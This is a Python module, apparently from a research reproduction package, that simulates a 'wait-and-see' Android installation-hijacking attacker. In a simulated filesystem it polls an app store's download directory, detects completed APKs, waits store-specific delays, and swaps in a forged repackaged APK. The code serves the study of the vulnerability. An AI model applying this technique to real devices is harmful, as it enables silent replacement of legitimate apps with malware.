"""Installation hijacking without FileObserver — the "wait-and-see"
strategy of Section III-B.

If the FileObserver channel were ever closed off, the attacker can
still win: poll the staging directory, detect download completion by
the presence of the *end of central directory* record at the tail of
the file, wait a device/store-specific delay measured beforehand
(500 ms for Amazon/Baidu, 2 s for DTIgnite), then **move** a pre-staged
repackaged APK over the target.
"""

from __future__ import annotations

import posixpath
from typing import Dict, Generator, List, Optional, Tuple

from repro.errors import AccessDenied, FilesystemError
from repro.android.apk import MalformedApk, file_is_complete
from repro.attacks.base import MaliciousApp, StoreFingerprint
from repro.sim.clock import millis
from repro.sim.kernel import Sleep

DEFAULT_POLL_INTERVAL_NS = millis(50)


class WaitAndSeeHijacker(MaliciousApp):
    """The polling, timing-only Step-3 attacker."""

    def __init__(self, fingerprint: StoreFingerprint,
                 poll_interval_ns: int = DEFAULT_POLL_INTERVAL_NS,
                 package: Optional[str] = None) -> None:
        super().__init__(package=package)
        self.fingerprint = fingerprint
        self.poll_interval_ns = poll_interval_ns
        self._seen_complete: Dict[str, int] = {}
        self._pending: Dict[str, str] = {}  # target path -> staged twin
        self.swaps: List[str] = []
        self.blocked: List[Tuple[str, str]] = []

    @property
    def stash_dir(self) -> str:
        """Where the replacement APK is pre-stored."""
        return "/sdcard/.cache-fun-flashlight"

    @property
    def succeeded(self) -> bool:
        """True once at least one replacement landed."""
        return bool(self.swaps)

    def arm(self, duration_ns: int):
        """Start polling for ``duration_ns``; returns the spawned process."""
        if not self.system.fs.exists(self.stash_dir):
            self.make_dirs(self.stash_dir)
        self.note_armed()
        return self.system.kernel.spawn(
            self._poll_loop(duration_ns), name="wait-and-see-poll"
        )

    # -- the poll loop ---------------------------------------------------------------

    def _poll_loop(self, duration_ns: int) -> Generator[Sleep, None, None]:
        deadline = self.system.now_ns + duration_ns
        while self.system.now_ns < deadline:
            self._scan()
            self._fire_due()
            yield Sleep(self.poll_interval_ns)

    def _scan(self) -> None:
        directory = self.fingerprint.watch_dir
        if not self.system.fs.exists(directory):
            return
        for name in self.system.fs.listdir(directory):
            if not name.endswith(".apk"):
                continue
            path = posixpath.join(directory, name)
            if path in self._seen_complete:
                continue
            try:
                data = self.read_file(path)
            except (AccessDenied, FilesystemError):
                continue
            if not file_is_complete(data):
                continue  # EOCD not there yet: still downloading
            # First poll that sees a complete file approximates the
            # download-completion instant.
            self._seen_complete[path] = self.system.now_ns
            try:
                replacement = self.forge_replacement(data)
            except MalformedApk:
                continue
            twin_path = posixpath.join(self.stash_dir, f"{self.system.rng.token(8)}.apk")
            self.write_file(twin_path, replacement.to_bytes())
            self._pending[path] = twin_path

    def _fire_due(self) -> None:
        now = self.system.now_ns
        for path, completed_at in list(self._seen_complete.items()):
            twin = self._pending.get(path)
            if twin is None:
                continue
            if now - completed_at < self.fingerprint.wait_and_see_delay_ns:
                continue
            del self._pending[path]
            try:
                # "moving a pre-stored file to the directory"
                self.move_file(twin, path)
            except AccessDenied as exc:
                self.blocked.append((path, str(exc)))
                self.note_strike(path, blocked=True, reason=str(exc))
                continue
            except FilesystemError as exc:
                self.blocked.append((path, f"move failed: {exc}"))
                self.note_strike(path, blocked=True,
                                 reason=f"move failed: {exc}")
                continue
            self.swaps.append(path)
            self.note_strike(path)
